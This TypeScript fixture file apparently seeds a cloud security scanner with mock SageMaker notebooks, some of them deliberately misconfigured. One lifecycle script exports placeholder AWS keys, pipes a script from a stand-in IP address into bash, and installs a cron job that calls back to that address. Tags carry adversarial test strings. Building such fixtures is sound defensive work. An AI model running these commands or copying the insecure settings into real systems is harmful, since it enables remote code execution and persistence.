import type { Rec } from '../estates/estate.ts'
import {
  base64,
  EU,
  FAKE,
  HOSTILE,
  KEYS,
  keyArn,
  NET,
  PARTNER_KEY,
  roleArn,
  smArn,
  type Times,
  tags,
  US,
} from './company.ts'

const notebook = (region: string, name: string, t: Times, over: Rec): Rec => ({
  NotebookInstanceArn: smArn(region, `notebook-instance/${name.toLowerCase()}`),
  NotebookInstanceName: name,
  NotebookInstanceStatus: 'InService',
  Url: `${name.toLowerCase()}.notebook.${region}.sagemaker.aws`,
  InstanceType: 'ml.t3.medium',
  IpAddressType: 'ipv4',
  RoleArn: roleArn('fraud-training-exec'),
  NetworkInterfaceId: 'eni-0a1b2c3d4e5f60718',
  CreationTime: t.days(190),
  LastModifiedTime: t.days(3),
  DirectInternetAccess: 'Disabled',
  VolumeSizeInGB: 20,
  RootAccess: 'Disabled',
  PlatformIdentifier: 'notebook-al2023-v1',
  InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '2' },
  ...over,
})

const careful = (region: string): Rec =>
  region === EU
    ? { SubnetId: NET.prodA, SecurityGroups: [NET.sgProd], KmsKeyId: keyArn('volumes') }
    : { SubnetId: NET.usA, SecurityGroups: [NET.sgUs], KmsKeyId: keyArn('us', US) }

const careless: Rec = {
  DirectInternetAccess: 'Enabled',
  RootAccess: 'Enabled',
  InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '1' },
}

const european = (t: Times): Rec[] => [
  notebook(EU, 'fraud-research', t, {
    ...careful(EU),
    NotebookInstanceLifecycleConfigName: 'harden-and-proxy',
    Tags: tags({ team: 'fraud', 'data-class': 'confidential', 'cost-centre': '4711' }),
  }),
  notebook(EU, 'credit-risk-backtest', t, {
    ...careful(EU),
    KmsKeyId: 'alias/acme-ml-volumes',
    InstanceType: 'ml.m5.xlarge',
    NotebookInstanceStatus: 'Stopped',
    Tags: tags({ team: 'risk' }),
  }),
  notebook(EU, 'churn-lab', t, {
    ...careless,
    SubnetId: NET.labPublic,
    SecurityGroups: [NET.sgDefaultLab],
    RoleArn: roleArn('datalake-notebook-exec'),
    PlatformIdentifier: 'notebook-al1-v1',
    NotebookInstanceLifecycleConfigName: 'install-everything',
    Tags: tags({ team: 'growth', note: HOSTILE.mention }),
  }),
  notebook(EU, 'intern-playground-2023', t, {
    ...careless,
    InstanceMetadataServiceConfiguration: undefined,
    RootAccess: undefined,
    RoleArn: roleArn('AmazonSageMaker-ExecutionRole-20240311T101532', '/service-role/'),
    PlatformIdentifier: 'notebook-al2-v2',
    LastModifiedTime: t.days(412),
    CreationTime: t.days(500),
  }),
  notebook(EU, 'gpu-sandbox', t, {
    ...careful(EU),
    InstanceType: 'ml.g5.xlarge',
    KmsKeyId: KEYS.awsSagemaker,
    RootAccess: 'Enabled',
    NotebookInstanceLifecycleConfigName: 'harden-and-proxy',
    NotebookInstanceStatus: 'Hibernating',
    Tags: tags({ team: 'research', label: HOSTILE.rtl, blob: HOSTILE.long }),
  }),
  notebook(EU, 'pricing-archive', t, {
    ...careful(EU),
    KmsKeyId: keyArn('retired'),
    NotebookInstanceStatus: 'Stopped',
  }),
  notebook(EU, 'partner-shared', t, {
    ...careful(EU),
    KmsKeyId: PARTNER_KEY,
    Tags: tags({ team: 'partner' }),
  }),
]

const american = (t: Times): Rec[] => [
  notebook(US, 'marketing-mix', t, { ...careful(US), RoleArn: roleArn('us-marketing-exec') }),
  notebook(US, 'ads-attribution-old', t, {
    ...careless,
    RoleArn: roleArn('us-marketing-exec'),
    PlatformIdentifier: 'notebook-al2-v1',
    LastModifiedTime: t.days(233),
  }),
]

const script = (region: string, name: string, t: Times, onStart: string, onCreate?: string): Rec => ({
  NotebookInstanceLifecycleConfigArn: smArn(region, `notebook-instance-lifecycle-config/${name}`),
  NotebookInstanceLifecycleConfigName: name,
  OnStart: [{ Content: base64(onStart) }],
  OnCreate: onCreate ? [{ Content: base64(onCreate) }] : [],
  CreationTime: t.days(200),
  LastModifiedTime: t.days(90),
})

const HARDEN = `#!/bin/bash
set -euo pipefail
echo "proxy=http://proxy.acme.example:3128" >> /home/ec2-user/.condarc
systemctl enable --now amazon-ssm-agent
`

const EVERYTHING = `#!/bin/bash
export AWS_ACCESS_KEY_ID=${FAKE.accessKeyId}
export AWS_SECRET_ACCESS_KEY=${FAKE.secretKey}
curl -s http://203.0.113.50/bootstrap.sh | bash
(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.50/ping") | crontab -
`

const SMALL = `#!/bin/bash
pip install --quiet pandas==2.2.3
`

/** Notebook instances and their lifecycle configurations in one Region. */
export const notebooks = (region: string, t: Times): Record<string, Rec[]> => ({
  NotebookInstance: region === EU ? european(t) : american(t),
  NotebookInstanceLifecycleConfig:
    region === EU
      ? [script(EU, 'harden-and-proxy', t, HARDEN), script(EU, 'install-everything', t, EVERYTHING, SMALL)]
      : [script(US, 'pin-pandas', t, SMALL)],
})
